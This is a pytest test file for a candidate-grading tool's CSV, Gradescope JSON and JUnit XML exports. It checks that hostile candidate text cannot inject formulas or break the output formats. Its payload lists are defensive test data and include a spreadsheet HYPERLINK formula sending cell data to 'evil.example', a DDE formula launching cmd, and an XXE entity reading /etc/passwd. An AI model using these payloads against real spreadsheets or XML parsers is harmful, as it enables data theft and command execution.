"""What other programs read: cases 63-65 of the attacks, and the forms that they expect."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from xml.etree import ElementTree as ET

import pytest
from interview.test_statistics import card, criterion, received, result
from report.samples import BLOCKED, CRASH, OURS, PRIORITY, ROUTING, SAMPLES, scorecard
from report.test_html import ATTACKS

from archprep.core.model import Evidence, Frame
from archprep.interview import exports
from archprep.interview.model import Graded, Result

FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1",
    "-2+3+cmd|' /C calc'!A0",
    "@x",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\x1b[31m=1",
    "\uff1d1+1",
    "harmless;=1+1",
    'quoted";  =1',
]
ALSO = ["\ufffe\uffff", "]]><x/>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;"]


def hostile(text: str) -> Result:
    """A candidate who writes this text wherever a candidate can."""
    frame = Frame(text, 1, text, text)
    evidence = Evidence(given=text, difference=text, message=text, frames=(frame,), output=text)
    failed = replace(PRIORITY, expected=text, observed=text, evidence=evidence)
    crash = replace(CRASH, observed=text, evidence=evidence)
    scored = Graded("q1", scorecard(ROUTING, failed, crash, BLOCKED, OURS), source={text: text})
    about = received(
        text, slug="c1", flags=(text,), superseded=(text,), source=text, reported={text: [text]}
    )
    return Result(about, (scored, Graded("q3", problem=text)))


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# ------------------------------------------------------------------ summary.csv


def test_one_row_for_each_candidate() -> None:
    one = result("Ada", card(criterion("a", points=60)), card(criterion("a"), exercise="q3"))
    broken = Result(received("Bob", problem="Bob.zip is no zip archive"), ())
    ada, bob = _rows(exports.summary([one, broken]))
    assert (ada["candidate"], ada["q1"], ada["q3"], ada["total"], ada["max"]) == (
        *("Ada", "60", "10", "70", "200"),
    )
    assert (bob["total"], bob["max"], bob["problems"]) == ("", "", "Bob.zip is no zip archive")


def test_the_order_of_rows_is_that_of_the_results() -> None:
    results = [result(name, card(criterion("a"))) for name in ("Zoe", "Ada")]
    assert [row["candidate"] for row in _rows(exports.summary(results))] == ["Zoe", "Ada"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    """Case 65: not by its first character, nor after a blank or what some take for a separator."""
    cells = [c for row in csv.reader([*exports.summary([hostile(text)]).splitlines()]) for c in row]
    assert not [c for c in cells if re.match(r"[\s\u200b]*[=+\-@\uff1d]", c)]
    assert not [c for c in cells if re.search(r";\s*[=+\-@]", c)]
    assert any(re.search(r"(^|;)'\s*[=+\-@\uff1d]", c) for c in cells)


@pytest.mark.parametrize("text", [*ATTACKS, *FORMULAS, 'a",b\n"c', "x,y"])
def test_a_row_stays_a_row(text: str) -> None:
    """No text makes a line or a column of its own, and nothing moves a cursor."""
    summary = exports.summary([hostile(text), hostile(text)])
    assert len(summary.splitlines()) == 3
    assert len({len(row) for row in csv.reader(summary.splitlines())}) == 1
    assert all(char == "\n" or char.isprintable() for char in summary)


def test_an_ordinary_name_is_left_alone() -> None:
    row = _rows(exports.summary([result("Zoë O'Neill-Smith", card(criterion("a")))]))[0]
    assert row["candidate"] == "Zoë O'Neill-Smith"


def test_a_fault_of_ours_stands_among_the_problems() -> None:
    row = _rows(exports.summary([Result(received(), (Graded("q1", SAMPLES["mixed"]),))]))[0]
    assert row["problems"] == "q1: 20 points could not be scored, by a fault of the grader"


# ------------------------------------------------------------------ Gradescope


def test_gradescope_gets_a_test_for_each_criterion() -> None:
    """The keys and values of https://gradescope-autograders.readthedocs.io/en/latest/specs/."""
    document = json.loads(exports.gradescope(Result(received(), (Graded("q1", SAMPLES["mixed"]),))))
    tests = document["tests"]
    assert document["score"] == sum(test["score"] for test in tests) == SAMPLES["mixed"].score
    assert sum(test["max_score"] for test in tests) == 100
    assert [test.get("status") for test in tests] == ["passed", *["failed"] * 5, None]
    assert {"name", "number", "score", "max_score", "output", "visibility"} <= tests[0].keys()
    assert "h3 (priority 2) had started" in tests[1]["output"]
    assert "publishing order.created" in tests[1]["output"]


def test_gradescope_shows_nothing_to_students() -> None:
    """The criteria are hidden from candidates, before and after."""
    document = json.loads(exports.gradescope(hostile("x")))
    settings = [document["visibility"], document["stdout_visibility"]]
    settings += [test["visibility"] for test in document["tests"]]
    assert set(settings) == {"hidden"}


def test_gradescope_interprets_no_text() -> None:
    """Text is never Markdown, HTML or ANSI to it."""
    document = json.loads(exports.gradescope(hostile("<b>x")))
    formats = {document[f"{key}output_format"] for key in ("", "test_")}
    assert formats | {document["test_name_format"]} == {"text"}


def test_an_exercise_without_scorecard_is_a_failed_test() -> None:
    broken = Result(received(), (Graded("q3", problem="service.py is missing."),))
    (test,) = json.loads(exports.gradescope(broken))["tests"]
    assert (test["score"], test["max_score"], test["status"]) == (0, 100, "failed")
    assert "service.py is missing." in test["output"]


def test_a_submission_that_could_not_be_read_is_told() -> None:
    broken = Result(received(problem="a.zip is no zip archive."), ())
    document = json.loads(exports.gradescope(broken))
    assert (document["score"], document["tests"]) == (0, [])
    assert "a.zip is no zip archive." in document["output"]


@pytest.mark.parametrize("text", [*ATTACKS, *FORMULAS, *ALSO])
def test_gradescope_json_is_ascii_and_clean(text: str) -> None:
    document = exports.gradescope(hostile(text))
    assert document.isascii()
    assert not re.search(r"\\u(001b|009b|202e|200b|d800)", document)
    json.loads(document)


# ------------------------------------------------------------------ JUnit XML


def _cases(text: str) -> list[ET.Element]:
    return list(ET.fromstring(text).iter("testcase"))


def test_junit_has_a_suite_for_each_exercise_and_a_case_for_each_criterion() -> None:
    both = (Graded("q1", SAMPLES["mixed"]), Graded("q3", SAMPLES["perfect"]))
    root = ET.fromstring(exports.junit(Result(received(), both)))
    assert root.tag == "testsuites"
    assert [suite.get("name") for suite in root] == ["q1", "q3"]
    assert [suite.get("tests") for suite in root] == ["7", "7"]
    assert (root.get("tests"), root.get("failures")) == ("14", "1")
    assert (root.get("errors"), root.get("skipped")) == ("4", "1")


def test_junit_tells_failures_errors_and_skips_apart() -> None:
    mixed = Result(received(), (Graded("q1", SAMPLES["mixed"]),))
    kinds = [[child.tag for child in case] for case in _cases(exports.junit(mixed))]
    assert kinds == [[], ["failure"], *[["error"]] * 3, ["skipped"], ["error"]]
    types = [child.get("type") for case in _cases(exports.junit(mixed)) for child in case]
    assert types == ["failed", "timeout", "crash", "crash", None, "grader_error"]


def test_junit_holds_the_evidence() -> None:
    case = _cases(exports.junit(Result(received(), (Graded("q1", SAMPLES["mixed"]),))))[1]
    text = case.find("failure").text or ""
    for piece in (PRIORITY.expected, PRIORITY.observed, "h1 priority 9", "publishing order"):
        assert piece in text


def test_junit_of_what_could_not_be_graded() -> None:
    broken = Result(received(problem="no zip"), ())
    missing = Result(received(), (Graded("q1", problem="a file is missing"),))
    for one, why in ((broken, "no zip"), (missing, "a file is missing")):
        (case,) = _cases(exports.junit(one))
        assert case.find("error").get("message") == why


@pytest.mark.parametrize("text", [*ATTACKS, *FORMULAS, *ALSO])
def test_junit_is_xml_whatever_the_candidate_wrote(text: str) -> None:
    """Escaped, without what XML forbids, and with no element that harmless text does not have."""
    document = exports.junit(hostile(text))
    assert document.isascii()
    found = [element.tag for element in ET.fromstring(document).iter()]
    harmless = ET.fromstring(exports.junit(hostile("harmless")))
    assert found == [element.tag for element in harmless.iter()]


@pytest.mark.parametrize("form", [exports.junit, exports.gradescope])
def test_the_same_result_gives_the_same_bytes(form) -> None:
    assert form(hostile("x")) == form(hostile("x"))


@pytest.mark.parametrize("form", [exports.junit, exports.gradescope])
def test_a_graders_own_failure_is_not_quoted(form) -> None:
    """What a grader says when it breaks may hold what it expects."""
    ours = replace(OURS, evidence=Evidence(message="assert secret == 42"))
    assert "secret" not in form(Result(received(), (Graded("q1", scorecard(ours)),)))
